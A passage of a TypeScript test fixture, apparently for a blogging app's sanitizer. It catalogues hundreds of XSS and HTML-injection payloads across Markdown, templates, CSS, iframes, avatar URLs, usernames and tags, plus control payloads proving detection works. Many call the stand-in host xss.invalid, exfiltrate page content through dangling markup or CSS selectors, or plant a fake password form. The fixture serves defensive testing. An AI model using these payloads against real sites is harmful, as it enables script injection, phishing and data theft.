        "Two levels: a global, and what is read of it.",
      ],
      [
        "clobber-collection",
        '<a id="config"></a><a id="config" name="token" href="data:,x">x</a>',
        "Two of one id make a collection, whose names are members.",
      ],
      [
        "clobber-frame",
        '<iframe name="__conduit_debug__" srcdoc="<a id=getToken>x</a>"></iframe>',
        "A frame's name is a global that is a whole window.",
      ],
      [
        "clobber-label",
        '<label for="field-body">click</label><label for="field-tags">click</label>',
        "A label moves the focus into the page's own form.",
        { harm: "confuse" },
      ],
      [
        "clobber-fragment",
        '[jump](#root) <a name="main">x</a>',
        "A link to what the page itself is made of.",
        { harm: "confuse" },
      ],
    ]),
);

const EMBEDDING = group("text", "script", [
  ["iframe-javascript", '<iframe src="javascript:parent.{js}"></iframe>', "A frame runs it in our origin."],
  [
    "iframe-srcdoc",
    '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    "A page in an attribute, in our origin.",
  ],
  [
    "iframe-srcdoc-references",
    '<iframe srcdoc="&lt;img src=x onerror=parent.{js}&gt;"></iframe>',
    "The same, escaped.",
  ],
  ["iframe-data", '<iframe src="data:text/html,<script>{js}</script>"></iframe>', "A page in an address."],
  [
    "iframe-sandboxed",
    '<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>parent.{js}</script>"></iframe>',
    "A sandbox with its doors open.",
  ],
  ["iframe-foreign", '<iframe src="{url}"></iframe>', "Somebody else's page in ours.", { harm: "request" }],
  ["frame-set", '<frameset onload={js}><frame src="{url}"></frameset>', "The old kind."],
  ["object-javascript", '<object data="javascript:{js}"></object>', "Objects are frames."],
  ["object-data", '<object data="data:text/html;base64,{page64}"></object>', "With a page in the address."],
  ["object-foreign", '<object data="{url}" type="text/html"></object>', "With somebody else's.", { harm: "request" }],
  ["embed-javascript", '<embed src="javascript:{js}">', "And so are embeds."],
  ["embed-foreign", '<embed src="{url}" type="image/svg+xml">', "With an image that is a page.", { harm: "request" }],
  ["portal", '<portal src="{url}"></portal>', "A frame that was tried and given up.", { harm: "request" }],
  ["fenced-frame", '<fencedframe src="{url}"></fencedframe>', "A frame that is being tried.", { harm: "request" }],
  [
    "base-foreign",
    '<base href="https://xss.invalid/base-foreign/"><img src="x.png">',
    "Every relative address of the page changes.",
    { harm: "request" },
  ],
  [
    "base-target",
    '<base target="xss">',
    "Every link of the page opens in a window of somebody's choice.",
    { harm: "confuse" },
  ],
  ["meta-refresh", '<meta http-equiv="refresh" content="0;url={url}">', "Leads away.", { harm: "request" }],
  ["meta-refresh-javascript", '<meta http-equiv="refresh" content="0;url=javascript:{js}">', "Ran in older browsers."],
  [
    "meta-refresh-data",
    '<meta http-equiv="refresh" content="0;url=data:text/html;base64,{page64}">',
    "With a page in the address.",
  ],
  [
    "meta-policy",
    '<meta http-equiv="Content-Security-Policy" content="script-src \'none\'">',
    "Switches the page's own script off.",
    { harm: "confuse" },
  ],
  ["meta-set-cookie", '<meta http-equiv="Set-Cookie" content="jwtToken=x">', "Set cookies once.", { harm: "confuse" }],
  [
    "meta-referrer",
    '<meta name="referrer" content="unsafe-url"><img src="{url}">',
    "Tells others where one is.",
    { harm: "image" },
  ],
  [
    "link-stylesheet",
    '<link rel="stylesheet" href="{url}">',
    "A style sheet reads what is on the page, letter by letter.",
    { harm: "request" },
  ],
  [
    "link-alternate-stylesheet",
    '<link rel="alternate stylesheet" title="x" href="{url}">',
    "Fetched although it is not used.",
    { harm: "request" },
  ],
  ["link-icon", '<link rel="icon" href="{url}">', "Fetched by the browser itself.", { harm: "image" }],
  ["link-prefetch", '<link rel="prefetch" href="{url}">', "Fetched for later.", { harm: "request" }],
  ["link-preload", '<link rel="preload" as="fetch" href="{url}">', "Fetched early.", { harm: "request" }],
  ["link-modulepreload", '<link rel="modulepreload" href="{url}">', "Fetched and compiled.", { harm: "request" }],
  [
    "link-preconnect",
    '<link rel="preconnect" href="https://xss.invalid"><link rel="dns-prefetch" href="//link-preconnect.xss.invalid">',
    "Tells by a look-up of a name alone.",
    { harm: "request" },
  ],
  ["link-prerender", '<link rel="prerender" href="{url}">', "A whole page, unseen.", { harm: "request" }],
  ["link-manifest", '<link rel="manifest" href="{url}">', "Fetched by the browser.", { harm: "request" }],
  [
    "link-import",
    '<link rel="import" href="data:text/html,<script>{js}</script>">',
    "HTML imports, which one browser had.",
  ],
  [
    "link-expect",
    '<link rel="expect" blocking="render" href="#never">',
    "Holds the page back until something comes.",
    { harm: "confuse" },
  ],
  [
    "speculation-rules",
    '<script type="speculationrules">{"prefetch":[{"urls":["{url}"]}]}</script>',
    "Rules by which pages are fetched.",
    { harm: "request" },
  ],
  [
    "import-map",
    '<script type="importmap">{"imports":{"preact":"{url}"}}</script>',
    "Where modules come from.",
    { harm: "request" },
  ],
  [
    "form-foreign",
    '<form action="{url}" method="post"><input name="password" type="password"><button>Sign in</button></form>',
    "A form that looks like ours: browsers fill it in.",
    { harm: "request", act: "click" },
  ],
  [
    "form-autofill",
    '<input type="password" name="password" autocomplete="current-password"><textarea form="f" name="t">',
    "Fields that a password manager fills in.",
    { harm: "confuse" },
  ],
  [
    "button-formaction-foreign",
    '<button form="editor" formaction="{url}">x</button>',
    "A button of somebody else's form.",
    { harm: "request", act: "click" },
  ],
  [
    "dangling-image",
    "<img src='https://xss.invalid/dangling-image?",
    "An attribute that goes on to the next quote, with all that lies between.",
    { harm: "image" },
  ],
  [
    "dangling-textarea",
    '<form action="{url}"><button>x</button><textarea name="t">',
    "A field that swallows the rest of the page.",
    { harm: "request", act: "click" },
  ],
  [
    "dangling-option",
    '<form action="{url}"><button>x</button><select name="s"><option>',
    "As before.",
    { harm: "request", act: "click" },
  ],
]);

const STYLES = group("text", "request", [
  ["style-import", "<style>@import '{url}';</style>", "A style sheet that fetches another."],
  ["style-import-entity", "<style>@im\\port url({url});</style>", "With an escape in the word."],
  ["style-url", "<style>body{background:url({url})}</style>", "Images of style sheets."],
  [
    "style-font",
    "<style>@font-face{font-family:x;src:url({url})}body{font-family:x}</style>text",
    "Fonts tell which letters a page has.",
  ],
  [
    "style-attribute-selector",
    '<style>input[value^="a"]{background:url({url})}</style><input value="ab">',
    "Selectors tell what fields hold.",
  ],
  ["style-attribute-url", '<p style="background:url({url})">x</p>', "In an attribute."],
  ["style-attribute-escaped", '<p style="background:u\\72l({url})">x</p>', "With an escape in the word."],
  [
    "style-attribute-comment",
    "<p style=\"background:ur/**/l({url});background-image:image-set('{url}' 1x)\">x</p>",
    "With a comment, and without the word.",
  ],
  ["style-cursor", '<p style="cursor:url({url}),auto">x</p>', "Pointers are images.", { act: "hover" }],
  ["style-list", '<ul><li style="list-style:url({url})">x</li></ul>', "And so are bullets."],
  ["style-content", "<style>p::before{content:url({url})}</style><p>x</p>", "And so is what stands before."],
  [
    "style-expression",
    '<p style="width:expression({js})">x</p>',
    "Script in a style, in one old browser.",
    { harm: "script" },
  ],
  ["style-binding", '<p style="-moz-binding:url({url}#x)">x</p>', "In another."],
  ["style-behavior", '<p style="behavior:url({url})">x</p>', "And in the first again."],
  [
    "style-javascript-url",
    '<p style="background:url(javascript:{js})">x</p>',
    "Addresses of styles ran, too.",
    { harm: "script" },
  ],
  [
    "style-breakout",
    "<style></style><img src=x onerror={js}></style>",
    "The element ends where the text says so.",
    { harm: "script" },
  ],
  [
    "style-overlay",
    '<a href="{url}" style="position:fixed;inset:0;z-index:9999;opacity:0">x</a>',
    "A link over the whole page.",
    { harm: "style" },
  ],
  [
    "style-class",
    '<div class="navbar error-messages btn btn-primary modal" id="x" role="alert">You are logged out. <b class="nav-link">Sign in</b></div>',
    "The page's own classes make a text look like the page.",
    { harm: "style" },
  ],
  ["style-hide", "<style>*{display:none!important}</style>", "Nothing is left to see.", { harm: "style" }],
  [
    "style-font-size",
    '<font size="7" color="white"><p style="font-size:999px;line-height:0">x</p></font>',
    "Text out of its place.",
    { harm: "style" },
  ],
  [
    "dir-attribute",
    '<bdo dir="rtl">moc.elpmaxe</bdo> <p dir="rtl" lang="x">x</p>',
    "Turns the order of what is read.",
    { harm: "confuse" },
  ],
]);

const FETCHES = group("text", "image", [
  ["fetch-markdown-image", "![x]({url})", "The plain image of Markdown, which tells who reads."],
  ["fetch-markdown-image-no-scheme", "![x]({host})", "Without a scheme."],
  [
    "fetch-markdown-image-http",
    "![x](http://xss.invalid/fetch-markdown-image-http)",
    "Without TLS, which the policy refuses.",
    { harm: "request" },
  ],
  [
    "fetch-markdown-image-backslash",
    "![x](/\\\\xss.invalid/fetch-markdown-image-backslash)",
    "Backslashes count as slashes.",
  ],
  ["fetch-markdown-image-reference", "![x][img-a]\n\n[img-a]: {url}", "By reference."],
  ["fetch-image", '<img src="{url}">', "As HTML."],
  ["fetch-image-srcset", '<img srcset="{url} 1x, {url}?2 2x">', "Several for the browser to choose from."],
  ["fetch-image-lazy", '<img loading="lazy" src="{url}" width="1" height="1">', "When it comes into view."],
  ["fetch-picture", '<picture><source srcset="{url}"><img alt="x"></picture>', "By a source."],
  ["fetch-video-poster", '<video poster="{url}"></video>', "The picture of a film."],
  ["fetch-video", '<video src="{url}" autoplay muted></video>', "The film.", { harm: "request" }],
  ["fetch-video-source", '<video autoplay muted><source src="{url}"></video>', "By a source.", { harm: "request" }],
  ["fetch-audio", '<audio src="{url}" autoplay></audio>', "Sound.", { harm: "request" }],
  [
    "fetch-track",
    '<video src="data:video/mp4,x"><track default src="{url}"></video>',
    "Captions.",
    { harm: "request" },
  ],
  ["fetch-input-image", '<input type="image" src="{url}" alt="x">', "A button that is an image."],
  [
    "fetch-low-source",
    '<img lowsrc="{url}" dynsrc="{url}" longdesc="{url}" src="data:,">',
    "Attributes of the last century.",
  ],
  ["fetch-body-background", '<body background="{url}">', "Attributes of a second body go to the first."],
  [
    "fetch-table-background",
    '<table background="{url}"><tr><td background="{url}">x</td></tr></table>',
    "Tables have backgrounds, too.",
  ],
  ["fetch-background-sound", '<bgsound src="{url}">', "An element of one browser.", { harm: "request" }],
  [
    "fetch-ping",
    '<a href="#" ping="{url}">x</a>',
    "A request beside the link's own.",
    { harm: "request", act: "click" },
  ],
  [
    "fetch-attribution",
    '<img attributionsrc="{url}" src="data:,"><a attributionsrc="{url}" href="#">x</a>',
    "A request for those who count advertisements.",
    { harm: "request" },
  ],
  [
    "fetch-object-param",
    '<object><param name="src" value="{url}"><param name="movie" value="{url}"></object>',
    "Parameters of plug-ins.",
    { harm: "request" },
  ],
  ["fetch-applet", '<applet archive="{url}" code="x"></applet>', "And of those before them.", { harm: "request" }],
  ["fetch-command-icon", '<menu><menuitem icon="{url}" label="x"></menu>', "Icons of menus that one browser had."],
  [
    "fetch-blockquote-cite",
    '<blockquote cite="{url}"><q cite="{url}">x</q></blockquote>',
    "Addresses that nobody is to fetch.",
    { harm: "request" },
  ],
  ["fetch-profile", '<head profile="{url}"><html manifest="{url}">', "Attributes of the root.", { harm: "request" }],
]);

const MARKDOWN = group("text", "script", [
  [
    "markdown-title-quote",
    '[x](https://example.org "a\\" onmouseover={js} b=\\"")',
    "An escaped quote in a title that is written out as it is.",
    { act: "hover" },
  ],
  [
    "markdown-title-reference",
    '[x](https://example.org "&quot; onmouseover={js} b=&quot;")',
    "A reference that is decoded and not encoded.",
    { act: "hover" },
  ],
  [
    "markdown-title-single",
    "[x](https://example.org 'a\" onmouseover={js} b=\"')",
    "The other quotes around it.",
    { act: "hover" },
  ],
  [
    "markdown-title-brackets",
    '[x](https://example.org (a" onmouseover={js} b="))',
    "And parentheses.",
    { act: "hover" },
  ],
  [
    "markdown-title-in-definition",
    '[x][t-a]\n\n[t-a]: https://example.org "a\\" onmouseover={js} b=\\""',
    "In a definition.",
    { act: "hover" },
  ],
  [
    "markdown-address-quote",
    '[x](https://example.org/"onmouseover={js}//)',
    "A quote in an address.",
    { act: "hover" },
  ],
  [
    "markdown-address-brackets",
    '[x](<https://example.org/" onmouseover="{js}>)',
    "With a space, in brackets.",
    { act: "hover" },
  ],
  [
    "markdown-autolink-quote",
    '<https://example.org/"onmouseover={js}//>',
    "In an address that links itself.",
    { act: "hover" },
  ],
  [
    "markdown-bare-link-quote",
    'https://example.org/"onmouseover={js}// and on',
    "In one without brackets.",
    { act: "hover" },
  ],
  ["markdown-bare-link-markup", "https://example.org/<img/src=x/onerror={js}>", "Markup right behind it."],
  ["markdown-mail-link", '<"onmouseover={js}//"@example.org>', "In an address of mail.", { act: "hover" }],
  ["markdown-alt-quote", '![a" onerror="{js}](x)', "The text of an image is an attribute."],
  ["markdown-alt-reference", "![a&quot; onerror=&quot;{js}](x)", "With references."],
  ["markdown-alt-markup", "![<img src=x onerror={js}>](x)", "With markup in it."],
  ["markdown-image-address", '![x](x"onerror="{js})', "The address of an image."],
  ["markdown-image-title", '![x](x "a\\" onerror={js} b=\\"")', "And its title."],
  ["markdown-image-in-link", '[![x](x"onerror={js})](javascript:{js})', "An image within a link.", { act: "click" }],
  [
    "markdown-nested-links",
    "[a [b](javascript:{js}) c](https://example.org)",
    "A link within a link.",
    { act: "click" },
  ],
  [
    "markdown-nested-brackets",
    "[[[[x](javascript:{js})]]](javascript:{js})",
    "Brackets in brackets.",
    { act: "click" },
  ],
  ["markdown-link-text-markup", "[<img src=x onerror={js}>](https://example.org)", "Markup as the text of a link."],
  [
    "markdown-split-tag",
    '<a title="`" href="javascript:{js}">`x</a>',
    "A code span that begins within a tag: which of both goes first differs.",
    { act: "click" },
  ],
  ["markdown-split-attribute", '<img title="[x](" src=x onerror="{js}">)', "A link that begins within one."],
  ["markdown-code-span", "`<img src=x onerror={js}>`", "Code that is written out as it is."],
  ["markdown-code-span-odd", "``<img src=x onerror={js}>`", "Code that is none, because its ends differ."],
  ["markdown-code-block", "    <img src=x onerror={js}>", "Indented code."],
  ["markdown-fence", "```html\n<img src=x onerror={js}>\n```", "A fence."],
  [
    "markdown-fence-info-quote",
    '```"onpointerenter={js} x="\nx\n```',
    "The language of a fence becomes a class.",
    { act: "hover" },
  ],
  ["markdown-fence-info-markup", "```</code><img src=x onerror={js}>\nx\n```", "With markup in it."],
  [
    "markdown-fence-info-reference",
    "~~~&quot;&gt;&lt;img src=x onerror={js}&gt;\nx\n~~~",
    "With references, which are decoded there.",
  ],
  ["markdown-fence-unclosed", "```\n</code></pre><img src=x onerror={js}>", "A fence without its end."],
  ["markdown-html-block", "<div>\n\n<img src=x onerror={js}>\n\n</div>", "Blocks of HTML with Markdown between."],
  ["markdown-html-block-mixed", "<div\n**x**\nonmouseover={js}>x</div>", "A tag over several lines.", { act: "hover" }],
  ["markdown-html-comment", "<!--\n\n--><img src=x onerror={js}>", "A comment over paragraphs."],
  ["markdown-html-in-list", "- <img src=x onerror={js}>\n  - <script>{js}</script>", "In a list."],
  ["markdown-html-in-quote", "> <img src=x\n> onerror={js}>", "In a quote, over its lines."],
  [
    "markdown-html-in-heading",
    "# <img src=x onerror={js}>\n\nx <svg/onload={js}>\n===",
    "In headings, of which ids are made.",
  ],
  ["markdown-heading-id", '## x" onpointerenter={js} y="\n', "An id that is made of a heading.", { act: "hover" }],
  [
    "markdown-heading-attributes",
    "## x {#y onpointerenter={js}}",
    "Attributes in braces, which some dialects have.",
    { act: "hover" },
  ],
  [
    "markdown-inline-attributes",
    "[x](https://example.org){onmouseover={js}} ![x](x){onerror={js}}",
    "The same behind links and images.",
    { act: "hover" },
  ],
  ["markdown-table", "| a | b |\n| --- | --- |\n| <img src=x onerror={js}> | [x](javascript:{js}) |", "In a table."],
  [
    "markdown-table-align",
    '| a |\n| :-" onpointerenter={js} -: |\n| b |',
    "The line that says where cells stand.",
    { act: "hover" },
  ],
  [
    "markdown-table-escaped-pipe",
    "| a |\n| --- |\n| `\\|<img src=x onerror={js}>` |",
    "Escapes are taken out before code is.",
  ],
  [
    "markdown-footnote",
    'x[^a"><img src=x onerror={js}>]\n\n[^a"><img src=x onerror={js}>]: <svg/onload={js}>',
    "The name of a footnote becomes an id.",
  ],
  ["markdown-abbreviation", '*[x]: "><img src=x onerror={js}>\n\nx', "An abbreviation becomes a title."],
  [
    "markdown-definition-name",
    "[<img src=x onerror={js}>]: https://example.org\n\n[<img src=x onerror={js}>]",
    "The name of a definition.",
  ],
  [
    "markdown-emphasis-in-attribute",
    '<img alt="*" src=x title="*" onerror="{js}">',
    "Emphasis that crosses attributes.",
  ],
  [
    "markdown-strike-in-attribute",
    '<a title="~~" href="javascript:{js}" rel="~~">x</a>',
    "And strike-through.",
    { act: "click" },
  ],
  ["markdown-task-list", '- [x] <img src=x onerror={js}>\n- ["onclick={js}] y', "Boxes to be ticked."],
  ["markdown-hard-break", "<img src=x  \nonerror={js}>", "A break that is made of two spaces within a tag."],
  ["markdown-escaped-bracket", "\\<img src=x onerror={js}>", "An escape that is taken off too early."],
  ["markdown-escaped-escape", "\\\\<img src=x onerror={js}>", "An escape that is one of an escape."],
  ["markdown-emoji", ':"><img src=x onerror={js}>:', "Names of emoji that become images."],
  [
    "markdown-mathematics",
    "$\\href{javascript:{js}}{x}$ $$\\unicode{<img src=x onerror={js}>}$$",
    "Formulas, which renderers of their own turn into markup.",
    { act: "click" },
  ],
  ["markdown-front-matter", "---\ntitle: <img src=x onerror={js}>\n---\n\nx", "Data before the text."],
  ["markdown-directive", ':::note{onclick="{js}"}\nx\n:::', "Containers of some dialects.", { act: "click" }],
  [
    "markdown-carriage-return",
    "<img src=x\ronerror={js}>\r\r[x](javascript:{js})",
    "Line ends of another kind.",
    { act: "click" },
  ],
  [
    "markdown-nul-replacement",
    "<img src=x on\ufffderror={js} onerror={js}>",
    "What CommonMark puts in the place of U+0000.",
  ],
  [
    "markdown-many-brackets",
    `${"[".repeat(5_000)}x${"](javascript:{js})".repeat(40)}`,
    "Depth that makes a parser give up and pass the rest on.",
    { act: "click" },
  ],
  ["markdown-many-quotes", `${"> ".repeat(300)}<img src=x onerror={js}>`, "As before."],
]);

const TEMPLATES = group("text", "script", [
  [
    "template-double-braces",
    "{{constructor.constructor('{js}')()}}",
    "Templates that are compiled from what is on the page.",
  ],
  ["template-double-braces-event", "{{$on.constructor('{js}')()}}", "The same, by what another version has in scope."],
  ["template-dollar", "${{js}} #{{js}} <%= {js} %> [[${{js}}]]", "Literals and languages of servers."],
  [
    "template-html",
    "{@html '<img src=x onerror={js}>'} {{{<img src=x onerror={js}>}}}",
    "Marks for text that is not to be escaped.",
  ],
  [
    "template-vue",
    '<p v-html="\'<img src=x onerror={js}>\'" @click="{js}" v-on:click="{js}">x</p>',
    "Attributes of one framework.",
    { act: "click" },
  ],
  ["template-alpine", '<p x-data x-init="{js}" x-html="\'x\'" @click="{js}">x</p>', "Of another."],
  ["template-angular", '<p ng-app ng-init="constructor.constructor(\'{js}\')()" (click)="{js}">x</p>', "Of a third."],
  [
    "template-htmx",
    '<p hx-on:load="{js}" hx-get="{url}" hx-trigger="load" data-hx-get="{url}">x</p>',
    "Of a fourth, which fetches, too.",
  ],
  [
    "template-stimulus",
    '<p data-controller="x" data-action="click->x#{js}" data-remote="true" data-method="delete">x</p>',
    "Attributes for script that listens on the whole page.",
    { act: "click" },
  ],
  ["template-jsx", "<p dangerouslySetInnerHTML={{__html: '<img src=x onerror={js}>'}}>x</p>", "JSX, written as text."],
  [
    "template-virtual-node",
    '{"type":"img","props":{"src":"x","onerror":"{js}"},"key":null,"__html":"<img src=x onerror={js}>"}',
    "A node of a virtual tree, in JSON: values that are objects and not text.",
  ],
  [
    "template-prototype",
    '{"__proto__":{"innerHTML":"<img src=x onerror={js}>","dangerouslySetInnerHTML":{"__html":"<img src=x onerror={js}>"}}}',
    "Members that all objects get.",
  ],
  [
    "template-bootstrap",
    '<a href="#" data-toggle="tooltip" data-html="true" title="<img src=x onerror={js}>" data-bs-toggle="collapse" data-bs-target="<img src=x onerror={js}>">x</a>',
    "Attributes whose text libraries make markup of.",
    { act: "hover" },
  ],
  ["template-jquery-mobile", '<div data-role="popup" id="--><img src=x onerror={js}>">x</div>', "As before."],
]);

const BREAKOUTS = group("text", "script", [
  ["breakout-script-end", "</script><script>{js}</script>", "Data that is written into a script of the page."],
  ["breakout-script-end-upper", "</SCRIPT ><svg/onload={js}>", "The same in upper case."],
  [
    "breakout-script-comment",
    "<!--<script>x</script>{js}//--><script>",
    "Two states of the parser in which the end of a script is none.",
  ],
  ["breakout-double-quote", '";{js};//', "Out of a string."],
  ["breakout-single-quote", "';{js};//", "Out of another."],
  ["breakout-backslash", '\\";{js};//', "With an escape of the escape."],
  ["breakout-template-literal", "`;{js};//${{js}}", "Out of the third kind."],
  ["breakout-arithmetic", "'-{js}-'", "Without statements."],
  ["breakout-line-separator", "\u2028{js}\u2029", "Line ends in JavaScript that JSON lets through."],
  ["breakout-json", '"},"x":{js},"y":{"', "Out of an object."],
  ["breakout-title", "</title><img src=x onerror={js}>", "Out of the page's title."],
  ["breakout-textarea", "</textarea><img src=x onerror={js}>", "Out of a field of the editor."],
  ["breakout-value", '"><img src=x onerror={js}>', "Out of a field's value."],
  ["breakout-attribute", '" autofocus onfocus="{js}', "Out of it, without brackets."],
  ["breakout-attribute-single", "' autofocus onfocus='{js}", "With other quotes."],
  ["breakout-attribute-bare", "x autofocus onfocus={js}", "With none."],
  ["breakout-comment", "--><img src=x onerror={js}><!--", "Out of a comment."],
  ["breakout-style", "</style><img src=x onerror={js}>", "Out of a style sheet."],
  ["breakout-css", "x;}*{background:url({url})}", "Out of a rule in it.", { harm: "request" }],
  ["breakout-header", "x\r\nContent-Type: text/html\r\n\r\n<img src=x onerror={js}>", "Out of a field of the reply."],
  [
    "breakout-event-stream",
    'x\n\nevent: article\ndata: {"slug":"<img src=x onerror={js}>"}\n\n',
    "Out of an event of a stream.",
  ],
  ["breakout-cdata", "]]><img src=x onerror={js}>", "Out of character data."],
]);

const IMAGE_FIELD = group("image", "script", [
  ["avatar-javascript", "javascript:{js}", "Images ran it once."],
  ["avatar-javascript-tab", "java\tscript:{js}", "With a tab."],
  ["avatar-javascript-upper", " JaVaScRiPt:{js}", "With a space in front."],
  ["avatar-vbscript", "vbscript:{js}", "The other scheme."],
  ["avatar-data-html", "data:text/html,<script>{js}</script>", "A page as an image."],
  ["avatar-data-html-base64", "data:text/html;base64,{page64}", "The same."],
  [
    "avatar-data-svg",
    "data:image/svg+xml;base64,{svg64}",
    "An SVG with an event: harmless as an image, not as a page.",
  ],
  [
    "avatar-data-svg-script",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>{js}</script></svg>",
    "With script.",
  ],
  [
    "avatar-data-svg-foreign",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{url}'/><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src='{url}'/></body></foreignObject></svg>",
    "With an image from elsewhere, which images must not fetch.",
    { harm: "request" },
  ],
  ["avatar-double-quote", 'x" onerror="{js}', "Out of the attribute."],
  ["avatar-single-quote", "x' onerror='{js}", "With other quotes."],
  ["avatar-bare", "x onerror={js}", "With none."],
  ["avatar-markup", '"><img src=x onerror={js}>', "Out of the element."],
  ["avatar-script", '"><script>{js}</script>', "As before."],
  ["avatar-references", "x&quot; onerror=&quot;{js}", "With references, for who decodes them."],
  ["avatar-srcset", "x, {url} 2x", "Taken for a list of images.", { harm: "request" }],
  ["avatar-style", "x);background:url({url}", "Out of a style.", { harm: "request" }],
  ["avatar-style-quote", "x');background:url('{url}", "With a quote.", { harm: "request" }],
  ["avatar-foreign", "{url}", "An image from elsewhere, which is what the field is for.", { harm: "image" }],
  ["avatar-foreign-no-scheme", "{host}", "Without a scheme.", { harm: "image" }],
  [
    "avatar-foreign-http",
    "http://xss.invalid/avatar-foreign-http",
    "Without TLS, which the policy refuses.",
    { harm: "request" },
  ],
  ["avatar-foreign-backslash", "\\\\xss.invalid\\avatar-foreign-backslash", "With backslashes.", { harm: "image" }],
  [
    "avatar-account",
    "https://example.org@xss.invalid/avatar-account",
    "A name in front of the host.",
    { harm: "image" },
  ],
  [
    "avatar-own-api",
    "/api/user",
    "An address of ours, fetched as an image with whatever the browser adds.",
    { harm: "confuse" },
  ],
  ["avatar-relative", "../../../../login?x=#y", "One that depends on the page.", { harm: "confuse" }],
  ["avatar-blob", "blob:https://xss.invalid/avatar-blob", "A scheme around an address.", { harm: "request" }],
  ["avatar-file", "file:///etc/passwd", "The reader's own disk.", { harm: "confuse" }],
  ["avatar-web-socket", "wss://xss.invalid/avatar-web-socket", "Another scheme that fetches.", { harm: "request" }],
  ["avatar-template", "{{constructor.constructor('{js}')()}}", "A template."],
  [
    "avatar-long-data",
    `data:image/svg+xml,${"%20".repeat(600)}<svg onload={js}>`,
    "White space beyond what is looked at.",
  ],
  [
    "avatar-not-an-address",
    "http://[",
    "What no parser of addresses takes: the page must not fall over it.",
    { harm: "confuse" },
  ],
  ["avatar-object", "[object Object]", "What is left of a value that is no text.", { harm: "confuse" }],
]);

const USERNAMES = group("username", "script", [
  ["name-script", "<script>{js}</script>", "Names stand on every page."],
  ["name-image", "<img src=x onerror={js}>", "As markup."],
  ["name-quote", '"onmouseover={js} x="', "Out of a title or a label.", { act: "hover" }],
  ["name-single-quote", "'onmouseover={js} x='", "With other quotes.", { act: "hover" }],
  ["name-javascript", "javascript:{js}", "Taken for an address, where links are made of names.", { act: "click" }],
  ["name-markdown", "[x](javascript:{js})", "Where names are rendered as text is.", { act: "click" }],
  ["name-template", "{{{js}}}", "Where names are in a template."],
  ["name-script-end", "</script><svg/onload={js}>", "Where they are in a script."],
]);

const NAMES_OF_PATHS = [
  ["parent", "../login", "A segment that leads up."],
  ["parents", "../../api/user", "Several."],
  ["encoded-parent", "..%2Flogin", "Encoded, for who decodes twice."],
  ["encoded-slash", "a%2Fb", "A slash that is decoded too early."],
  ["double-encoded", "a%252Fb", "One that is decoded twice."],
  ["slash", "a/b", "A slash."],
  ["slashes", "//xss.invalid", "Two, which make a host of what follows."],
  ["backslash", "\\\\xss.invalid", "Backslashes."],
  ["query", "a?feed=following&x=y", "A question mark, and what follows is a query."],
  ["fragment", "a#main", "A number sign, and what follows is a fragment."],
  ["percent", "100%", "A percent sign that begins no code: decoding throws."],
  ["percent-bad", "%E0%A4%A", "A code that is none in UTF-8: decoding throws."],
  ["plus", "a+b c", "A plus that is a space in queries."],
  ["ampersand", "a&tag=b", "An ampersand that ends a value."],
  ["semicolon", "a;b=c", "A semicolon that ends a segment for some."],
  ["reserved-word", "editor", "A word that routes have, too."],
  ["colon", ":username", "The name of the route's own parameter."],
  ["asterisk", "*", "A pattern."],
  ["rtl-override", "abc\u202egnp.exe", "Turns the rest of the line around."],
  ["rtl-isolate", "\u2067\u202e\u2066abc", "Isolates that are never closed."],
  ["zero-width", "de\u200bmo", "Looks like somebody else."],
  ["cyrillic", "dеmо", "Two letters of another script: looks like somebody else, too."],
  ["combining", `a${"\u0301\u0327".repeat(28)}`, "Marks that climb out of the line."],
  ["long-word", "W".repeat(64), "No place to break."],
  ["wide", "﷽﷽﷽﷽", "One character as wide as a sentence."],
  ["emoji", "👩‍👩‍👧‍👦👨🏿‍🚀🏴‍☠️", "Characters that are made of many."],
  ["prototype", "__proto__", "A key that objects have by themselves."],
  ["constructor", "constructor", "Another."],
  ["to-string", "toString", "And one that is a function."],
  ["null", "null", "A word for nothing."],
  ["undefined", "undefined", "And its brother."],
] as const satisfies ReadonlyArray<readonly [string, string, string]>;

const TAGS = group("tag", "script", [
  ["tag-script", "<script>{js}</script>", "Tags stand on the first page."],
  ["tag-image", "<img src=x onerror={js}>", "As markup."],
  ["tag-quote", '"onmouseover={js} x="', "Out of an attribute.", { act: "hover" }],
  ["tag-javascript", "javascript:{js}", "Taken for an address.", { act: "click" }],
  ["tag-markdown", "[x](javascript:{js})", "Taken for Markdown.", { act: "click" }],
  ["tag-template", "{{{js}}}", "Taken for a template."],
  ["tag-json", '"],"x":["{js}', "Out of the list that tags are kept in."],
  ["tag-comma", "a,b\n{js}", "Out of a field in which they are separated."],
]);

/** All payloads. The order means nothing. */
export const payloads: readonly Payload[] = [
  ...SCRIPT_ELEMENTS,
  ...EVENT_ATTRIBUTES,
  ...LINKS,
  ...FOREIGN_CONTENT,
  ...MUTATIONS,
  ...CLOBBERING,
  ...EMBEDDING,
  ...STYLES,
  ...FETCHES,
  ...MARKDOWN,
  ...TEMPLATES,
  ...BREAKOUTS,
  ...IMAGE_FIELD,
  ...USERNAMES,
  ...group(
    "username",
    "confuse",
    NAMES_OF_PATHS.map(([name, text, why]): Row => [`name-${name}`, text, why]),
  ),
  ...TAGS,
  ...group(
    "tag",
    "confuse",
    NAMES_OF_PATHS.map(([name, text, why]): Row => [`tag-${name}`, text, why]),
  ),
];

/** A payload that does win where nothing protects the page. */
export type Control = Pick<Payload, "name" | "text" | "act"> & { readonly harm: "script" | "request" };

/**
 * Payloads that win in a plain page: their text, set as `innerHTML` of an element in a page without a policy, calls `__xss` or fetches. A test
 * shows with them that it would notice.
 */
export const controls: readonly Control[] = (
  [
    ["control-img-error", "<img src=x onerror={js}>", { harm: "script" }],
    ["control-details-toggle", "<details open ontoggle={js}><summary>x</summary></details>", { harm: "script" }],
    ["control-video-source", "<video><source onerror={js}></video>", { harm: "script" }],
    ["control-srcdoc", '<iframe srcdoc="<script>parent.{js}</script>"></iframe>', { harm: "script" }],
    ["control-svg-begin", "<svg><animate onbegin={js} attributeName=x dur=1s /></svg>", { harm: "script" }],
    ["control-link", '<a href="javascript:{js}">x</a>', { harm: "script", act: "click" }],
    ["control-form", '<form action="javascript:{js}"><button>x</button></form>', { harm: "script", act: "click" }],
    ["control-hover", "<p onmouseover={js}>x</p>", { harm: "script", act: "hover" }],
    ["control-image-request", '<img src="{url}">', { harm: "request" }],
    ["control-style-request", '<p style="background:url({url})">x</p>', { harm: "request" }],
